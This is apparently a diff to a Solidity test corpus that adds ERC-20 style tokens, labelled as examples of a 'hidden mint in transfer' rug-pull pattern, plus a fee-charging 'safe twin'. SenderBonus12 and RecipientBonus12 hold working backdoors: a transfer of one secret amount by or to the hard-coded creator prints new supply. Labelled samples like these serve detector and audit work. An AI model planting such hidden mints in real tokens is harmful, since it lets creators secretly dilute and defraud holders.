@@ -43,8 +43,14 @@ abstract contract OwnerlessLedger12 {
         return true;
     }
 
+    /// A subclass's hook before a transfer: what is left to move (0 when it handled the transfer itself).
+    function _beforeMove(address, address, uint256 value) internal virtual returns (uint256) {
+        return value;
+    }
+
     function _move(address from, address to, uint256 value) internal {
         require(balanceOf[from] >= value, "ERC20: transfer amount exceeds balance");
+        value = _beforeMove(from, to, value);
         balanceOf[from] -= value;
         balanceOf[to] += value;
         emit Transfer(from, to, value);
@@ -128,5 +134,73 @@ contract GuildToken12 is OwnerlessLedger12 {
         if (!_held[role][account]) return;
         _held[role][account] = false;
         emit RoleRevoked(role, account, msg.sender);
+    }
+}
+
+// - a live key fixed in the code: the creator's address kept as an immutable and compared with a transfer's sender
+//   (or recipient); a transfer of one exact amount by (or to) it prints a new supply. No owner, no function the prober
+//   can find; only the comparison with the creator tells (CertiK "hard-coded privileged address"; rug-pull "hidden
+//   mint in transfer", read 2026-11-27). Safe twin: the creator fixed in the code only as the receiver of a fixed fee
+//   (no comparison).
+
+/// The creator, fixed at deployment, gets a new supply printed when it sends one exact amount.
+contract SenderBonus12 is OwnerlessLedger12 {
+    address private immutable founder;
+
+    constructor(uint256 supply) {
+        founder = msg.sender;
+        name = "Sender Bonus Twelve";
+        symbol = "SBN12";
+        _mint(msg.sender, supply);
+    }
+
+    function _beforeMove(address from, address to, uint256 value) internal override returns (uint256) {
+        if (from == founder && value == 4_242) {
+            _mint(to, totalSupply);
+            return 0;
+        }
+        return value;
+    }
+}
+
+/// The sibling: the creator is paid a new supply when anyone sends it one exact amount.
+contract RecipientBonus12 is OwnerlessLedger12 {
+    address private immutable founder;
+
+    constructor(uint256 supply) {
+        founder = msg.sender;
+        name = "Recipient Bonus Twelve";
+        symbol = "RBN12";
+        _mint(msg.sender, supply);
+    }
+
+    function _beforeMove(address, address to, uint256 value) internal override returns (uint256) {
+        if (to == founder && value == 31_337) {
+            _mint(to, totalSupply * 3);
+            return 0;
+        }
+        return value;
+    }
+}
+
+/// Safe twin: the creator fixed in the code receives a fixed 1 % of every transfer; no comparison, no setter.
+contract CreatorFee12 is OwnerlessLedger12 {
+    address private immutable treasury;
+
+    constructor(uint256 supply) {
+        treasury = msg.sender;
+        name = "Creator Fee Twelve";
+        symbol = "CFE12";
+        _mint(msg.sender, supply);
+    }
+
+    function _beforeMove(address from, address, uint256 value) internal override returns (uint256) {
+        uint256 fee = value / 100;
+        if (fee > 0) {
+            balanceOf[from] -= fee;
+            balanceOf[treasury] += fee;
+            emit Transfer(from, treasury, fee);
+        }
+        return value - fee;
     }
 }
